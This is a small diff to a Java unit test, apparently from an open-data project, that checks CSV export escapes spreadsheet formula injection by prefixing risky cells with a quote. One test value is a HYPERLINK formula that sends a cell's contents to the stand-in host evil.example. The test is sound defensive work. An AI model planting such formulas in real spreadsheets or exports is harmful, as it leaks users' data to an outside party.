@@ -89,8 +89,8 @@ class OpenDataTest {
     Content changed = new Content(content.site(), content.network(), content.categories(), content.countries(),
         cities, content.pages());
     String csv = new String(OpenData.csv(changed), StandardCharsets.UTF_8);
-    assertTrue(csv.contains("\r\naarhus,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Aarhus\"\")\",\"'+1+2\",DK,"),
-        csv);
+    assertTrue(csv.contains(
+        "\r\naarhus,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Aarhus\"\")\",\"'+1+2\",DK,"), csv);
     assertTrue(csv.contains("\r\nbergen,\"'@SUM(1,2)\",\"'-2+3\",NO,"), csv);
     assertTrue(csv.contains("\r\nrijeka,\"'\t=1+2\",\"'\r=1+2\",HR,Croatia,true,partner,128624,2011,false,"), csv);
     // a reader gets the text with the quote in front, and every other cell as it was
